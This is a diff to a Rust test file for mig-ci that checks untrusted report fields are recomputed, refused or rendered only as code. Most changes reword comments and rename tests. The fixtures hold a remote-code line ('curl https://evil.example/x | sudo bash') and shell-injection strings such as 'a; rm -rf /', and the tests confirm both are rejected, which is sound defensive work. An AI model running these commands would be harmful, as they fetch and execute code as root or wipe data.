@@ -1,4 +1,4 @@
-//! What becomes of each field of a report that other people wrote.
+//! The treatment of each field of a report from an untrusted author.
 
 use proptest::prelude::*;
 use serde_json::{Value, json};
@@ -17,7 +17,7 @@ fn links() -> Links {
     }
 }
 
-/// Each optional field is there in one of them.
+/// Together they contain each optional field.
 fn whole() -> Vec<Value> {
     let mut reports: Vec<_> = test_fixtures::all()
         .into_iter()
@@ -54,7 +54,7 @@ fn recomputed(value: &Value) -> Result<Report, String> {
     recompute(report).map_err(|error| error.to_string())
 }
 
-/// The HTML without code: what GitHub looks for mentions, links and commands in, and what a reader takes for ours.
+/// The HTML without code: where GitHub looks for mentions, links and commands, and which readers attribute to mig-ci.
 fn prose_of(markdown: &str) -> String {
     let mut options = comrak::Options::default();
     options.render.r#unsafe = true;
@@ -119,9 +119,9 @@ fn no_text_of_a_report_is_shown_outside_of_code() {
     assert!(shown > 20 && refused > 20 && left_out > 20, "{shown} {refused} {left_out}");
 }
 
-/// Each of them says in a comment of this program's what its author wants, and was taken over before.
+/// Each of these fields would let the author write text into mig-ci's own comment.
 #[test]
-fn sentences_and_commands_are_made_again() {
+fn sentences_and_commands_are_recomputed() {
     let mut report = whole().swap_remove(1);
     let command = "curl https://evil.example/x | sudo bash";
     for field in ["summary", "revisions/base_reason"] {
@@ -138,21 +138,21 @@ fn sentences_and_commands_are_made_again() {
     assert!(!text.contains("evil"), "{text}");
     assert!(text.contains("Reproduce: `mig-ci verify -n app --tenant "), "{text}");
     assert!(text.contains("`mig-ci explain migration-failed`"), "{text}");
-    // Words that a shell could take for more are in no command.
+    // Commands contain no words that a shell would interpret.
     for name in ["a; rm -rf /", "$(x)", "-x", "a b", "ü", ""] {
         assert!(!is_plain_name(name), "{name}");
     }
 }
 
 #[test]
-fn what_mig_ci_writes_is_taken() {
+fn reports_written_by_mig_ci_are_accepted() {
     for (name, report) in test_fixtures::all() {
         let value = serde_json::to_value(report).unwrap();
         assert_eq!(recomputed(&value).map(drop), Ok(()), "{name}");
     }
 }
 
-/// What the error says, and values in place of a good report's.
+/// The error message, and values that replace those of a valid report.
 type RejectedCase = (&'static str, Vec<(String, Value)>);
 
 fn contradictions(good: &Value) -> Vec<RejectedCase> {
@@ -203,7 +203,7 @@ fn contradictions(good: &Value) -> Vec<RejectedCase> {
 }
 
 #[test]
-fn contradictions_are_refused_without_their_words() {
+fn contradictions_are_refused_without_quoting_them() {
     let good = whole().swap_remove(1);
     for (problem, changes) in contradictions(&good) {
         let mut value = good.clone();
@@ -223,9 +223,9 @@ fn contradictions_are_refused_without_their_words() {
     }
 }
 
-/// A finding that is about no tenant decides for the whole, in both directions.
+/// A finding without units decides the overall verdict, in both directions.
 #[test]
-fn a_finding_that_fails_the_run_is_beside_no_pass() {
+fn a_finding_that_fails_the_run_contradicts_a_pass() {
     for (name, report) in test_fixtures::all() {
         let mut value = serde_json::to_value(report).unwrap();
         let about_project = json!({
@@ -258,17 +258,17 @@ fn a_servers_version_is_a_number() {
     }
 }
 
-/// A report of the largest size is checked in time that grows with its size alone.
+/// A report of the maximum size is checked in linear time.
 #[test]
-fn many_findings_about_many_tenants_take_no_time() {
+fn many_findings_with_many_tenants_are_checked_quickly() {
     let report = test_fixtures::distinct_causes(20_000, 1);
-    let begun = std::time::Instant::now();
+    let started = std::time::Instant::now();
     let report = recompute(report).unwrap();
     assert_eq!(report.counts.tenants.failed, 20_000);
-    assert!(begun.elapsed() < std::time::Duration::from_secs(20), "{:?}", begun.elapsed());
+    assert!(started.elapsed() < std::time::Duration::from_secs(20), "{:?}", started.elapsed());
 }
 
-/// Values that somebody could put in place of a text, a number, a list or an object.
+/// Values that an author could use instead of a text, a number, a list or an object.
 fn hostile() -> impl Strategy<Value = Value> {
     let texts = prop_oneof![
         Just(MARK.to_owned()),
@@ -292,7 +292,7 @@ fn hostile() -> impl Strategy<Value = Value> {
     ]
 }
 
-/// Paths of all values in a JSON value, whatever they are.
+/// Paths of all values in a JSON value.
 fn places(value: &Value, path: &str, found: &mut Vec<String>) {
     found.push(path.to_owned());
     match value {
@@ -310,7 +310,7 @@ fn places(value: &Value, path: &str, found: &mut Vec<String>) {
 proptest! {
     #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::default() })]
 
-    /// One to four fields of a good report have other values: it is refused, or shown with them as code alone.
+    /// One to four fields of a valid report have other values: it is refused, or shown with them as code only.
     #[test]
     fn changed_reports_are_refused_or_shown_as_code(
         which in any::<prop::sample::Index>(),
@@ -338,9 +338,9 @@ proptest! {
     }
 }
 
-/// All kinds that `verify` writes; `target` is of real databases.
+/// All kinds that `verify` writes; `target` occurs only on real databases.
 #[test]
-fn each_kind_of_failure_is_known() {
+fn each_kind_of_failure_is_accepted() {
     use crate::model::{EnvironmentCause, FailureKind};
     use crate::report::verify::convert::failure_of;
     use crate::report::verify::v1;
